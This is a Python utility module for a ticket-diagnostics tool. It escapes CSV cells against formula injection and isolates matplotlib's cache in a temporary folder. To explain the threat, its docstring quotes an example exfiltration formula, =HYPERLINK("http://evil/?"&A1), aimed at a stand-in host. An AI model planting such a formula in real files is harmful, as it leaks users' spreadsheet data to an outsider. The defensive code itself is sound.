"""Output hygiene shared by everything that writes files for people.

- :func:`safe_csv_cell`: a CSV cell that a spreadsheet shows as text, never runs as a
  formula. Ticket text is written by strangers: ``=HYPERLINK("http://evil/?"&A1)``
  typed into a summary would become a live formula when a CSV the tool wrote is opened
  in Excel, LibreOffice or Google Sheets. Every CSV itsm-diag writes *for users* (today
  none: reports are terminal text, Markdown, HTML and JSON, and the batch index is
  Markdown and JSON) must pass its cells through it. The sample writers in
  :mod:`itsm_diag.writers` deliberately do not: they imitate what ServiceNow, Jira,
  Zendesk and Freshservice export, byte for byte, so the importers are tested against
  real-looking files (a leading ``-`` or ``+`` in a real export must stay one).
- :func:`private_matplotlib_config`: matplotlib writes a font cache to ``~/.cache`` or
  ``~/.config`` on first import; the HTML report points it at a private temporary folder
  deleted when the process exits, so a run leaves nothing behind but the report.
"""

from __future__ import annotations

import atexit
import os
import shutil
import sys
import tempfile

#: first characters that make a spreadsheet read a cell as a formula (or, for tab and
#: carriage return, that some spreadsheets strip before looking at the next character)
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_csv_cell(value: object) -> str:
    """``value`` as CSV cell text that a spreadsheet cannot evaluate.

    A cell whose first character (after leading spaces, which spreadsheets skip) could
    start a formula gets a leading apostrophe: Excel, LibreOffice and Google Sheets show
    the rest as typed. Numbers the tool itself produced (``-3``, ``-0.5``) are left
    alone. ``None`` is an empty cell. The CSV writer still does the quoting.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return repr(value) if isinstance(value, float) else str(value)
    text = str(value)
    if text.lstrip(" ").startswith(FORMULA_PREFIXES) and not _is_number(text):
        return "'" + text
    return text


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lower() not in ("nan", "inf", "-inf", "+inf")


_mpl_dir: str | None = None


def private_matplotlib_config() -> None:
    """Point matplotlib's config and cache at a private temporary folder, removed at exit
    (before matplotlib is first imported; a user's own ``MPLCONFIGDIR`` wins)."""
    global _mpl_dir
    if _mpl_dir is not None or "matplotlib" in sys.modules or os.environ.get("MPLCONFIGDIR"):
        return
    from multiprocessing import util

    _mpl_dir = tempfile.mkdtemp(prefix="itsm-diag-mpl-")
    os.environ["MPLCONFIGDIR"] = _mpl_dir
    atexit.register(shutil.rmtree, _mpl_dir, ignore_errors=True)
    # batch workers leave through multiprocessing, which skips atexit but runs these
    util.Finalize(None, shutil.rmtree, args=(_mpl_dir,), kwargs={"ignore_errors": True},
                  exitpriority=0)
